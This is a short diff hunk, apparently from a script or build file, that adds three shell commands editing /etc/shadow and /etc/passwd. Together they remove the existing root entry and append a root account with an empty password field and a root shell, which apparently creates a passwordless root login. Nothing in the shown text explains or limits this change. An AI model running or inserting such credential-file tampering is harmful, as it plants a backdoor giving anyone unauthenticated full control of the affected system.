@@ -1,0 +1,3 @@
+sed -i '/^root:/d' /etc/shadow
+echo 'root:!:20000:0:99999:7:::' >>/etc/shadow
+echo 'root::0:0::/root:/bin/sh' >>/etc/passwd
